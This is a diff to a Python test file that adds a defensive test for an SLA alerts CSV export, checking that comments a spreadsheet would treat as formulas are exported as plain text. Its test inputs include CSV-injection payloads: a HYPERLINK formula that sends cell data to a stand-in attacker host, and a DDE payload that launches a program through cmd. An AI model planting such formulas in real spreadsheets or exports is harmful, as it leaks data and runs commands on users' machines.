@@ -168,3 +168,19 @@ def test_csv_export_in_chinese_and_bad_filters(app, session_client, stations):
     assert rows[0][3] == "工单" and len(rows) == 1 + 4
     assert client.get("/sla/alerts.csv?kind=alarm").status_code == 422
     assert client.get("/sla/alerts.csv?unit=atlantis").status_code == 422
+
+
+@pytest.mark.parametrize("comment", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
+                                     "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"])
+def test_csv_export_neutralises_formulas(app, session_client, stations, comment):
+    """A comment a spreadsheet would run as a formula is exported as text (a leading ')."""
+    client, _ = session_client("supervisor")
+    with app.app_context():
+        first_breach = db.session.scalar(select(Alert.id).where(Alert.kind == AlertKind.BREACH).order_by(Alert.id))
+        sla.acknowledge_alert(first_breach, user("supervisor"), comment)
+        db.session.commit()
+    rows = list(csv.reader(io.StringIO(client.get("/sla/alerts.csv?kind=breach").get_data().decode("utf-8-sig"),
+                                       newline="")))
+    acked = next(r for r in rows if r[0] == str(first_breach))
+    assert acked[11] == "'" + comment
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
